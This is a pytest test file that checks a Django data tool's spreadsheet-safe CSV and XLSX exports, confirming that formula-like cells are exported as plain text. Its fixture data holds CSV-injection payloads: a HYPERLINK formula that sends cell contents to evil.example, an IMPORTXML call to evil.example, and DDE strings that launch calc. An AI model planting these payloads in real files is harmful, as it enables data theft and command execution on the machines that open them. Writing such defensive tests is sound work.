"""Cells, names and results that a spreadsheet would run as formulas: for spreadsheets every one is a text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any
from urllib.parse import urlencode

import openpyxl
import pytest
from django.test import Client
from pytest_django import Settings

import ladle
from ladle.importing import import_file
from tests.servers.stack import home_of

RUN = (
    *("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1"),
    *(
        "＝1+1",
        "＋1",
        "－1+1",
        "＠x",
        '=IMPORTXML("http://evil.example","//a")',
        "-2+3+cmd|' /C calc'!A0",
        "=",
        "+",
        "-x",
    ),
)
NUMBERS = ("-78.2", "+5", "-.5", "+1e-3")
"""Begin so, and are none."""
NAME = "=1+1"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, ladle.Snapshot, ladle.Snapshot]:
    """A home, and two snapshots of a table of formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    home = home_of(folder / "home")
    with (folder / "table.csv").open("w", newline="", encoding="utf-8") as file:
        lines = csv.writer(file, quoting=csv.QUOTE_ALL)
        lines.writerows([[NAME, "id", "day"], *([text, n, "2026-01-01"] for n, text in enumerate(RUN + NUMBERS))])
    first, second = (import_file(folder / "table.csv", key="id", home=home) for _ in range(2))
    return home, first, second


@pytest.fixture
def on(made: tuple[str, ladle.Snapshot, ladle.Snapshot], settings: Settings, db: None) -> ladle.Snapshot:
    settings.LADLE_HOME = made[0]
    return made[1]


def cells(answer: Any) -> list[str]:
    """Every cell of a CSV as a spreadsheet reads it, that of names too."""
    assert answer.status_code == 200, answer
    raw = b"".join(answer)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert re.search(r'attachment; filename="[\w.-]+-for-spreadsheets\.csv"', answer["Content-Disposition"])
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")) for cell in row]


def is_run(cell: str) -> bool:
    return cell[:1] in tuple("=+-@\t\r\n＝＋－＠") and not re.fullmatch(r"[+-](\d+\.?\d*|\.\d+)(e[+-]?\d+)?", cell)


BY = urlencode({"by": NAME})
PAGES = (
    "/api/v1/snapshots/{id}/download.csv-for-spreadsheets",
    f"/api/v1/snapshots/{{id}}/download.csv-for-spreadsheets?{urlencode({'_sort': 'id'})}",
    "/snapshots/{id}.csv-for-spreadsheets",
    "/snapshots/{id}.csv-for-spreadsheets?_limit=100",
    f"/snapshots/{{id}}/counts.csv-for-spreadsheets?{BY}",
    f"/snapshots/{{id}}/counts.csv-for-spreadsheets?{BY}&_limit=100",
    f"/snapshots/{{id}}/chart.csv-for-spreadsheets?{urlencode({'kind': 'bars', 'of': NAME})}",
    f"/snapshots/{{id}}/sql.csv-for-spreadsheets?{urlencode({'q': 'SELECT * FROM data'})}",
)


@pytest.mark.parametrize("page", PAGES)
def test_no_cell_for_spreadsheets_is_run_and_numbers_stay(client: Client, on: ladle.Snapshot, page: str) -> None:
    found = cells(client.get(page.format(id=on.id)))
    assert [cell for cell in found if is_run(cell)] == []
    assert f"'{NAME}" in found
    assert {f"'{RUN[1]}", *NUMBERS} <= set(found)


def test_a_diff_s_cells_and_names_are_texts_too(client: Client, on: ladle.Snapshot, made: Any) -> None:
    found = cells(client.get(f"/diff/{on.id}..{made[2].id}.csv-for-spreadsheets?_key=id"))
    assert [cell for cell in found if is_run(cell)] == []
    assert any(NAME in cell for cell in found)


def test_a_sheet_has_texts_and_no_formula(client: Client, on: ladle.Snapshot) -> None:
    raw = b"".join(client.get(f"/api/v1/snapshots/{on.id}/download.xlsx"))  # type: ignore[arg-type]
    with zipfile.ZipFile(io.BytesIO(raw)) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    assert not any(re.search(rb"<f[ >]|<ddeLink|<externalLink|<hyperlink", part) for part in parts.values())
    assert not {name for name in parts if "external" in name.lower() or "vba" in name.lower()}
    rows = list(openpyxl.load_workbook(io.BytesIO(raw))["data"].iter_rows())
    assert (rows[0][0].value, rows[0][0].data_type) == (NAME, "s")
    assert [row[0].value for row in rows[1:]] == [*RUN, *NUMBERS]
    assert {row[0].data_type for row in rows[1:]} == {"s"}


def test_what_is_not_for_spreadsheets_is_as_the_api_wrote_it(client: Client, on: ladle.Snapshot) -> None:
    plain = b"".join(client.get(f"/snapshots/{on.id}.csv?_limit=100")).decode()  # type: ignore[arg-type]
    assert [row[0] for row in csv.reader(io.StringIO(plain, newline=""))] == [NAME, *RUN, *NUMBERS]
    assert client.get(f"/snapshots/{on.id}/rows/1.csv-for-spreadsheets").status_code == 404
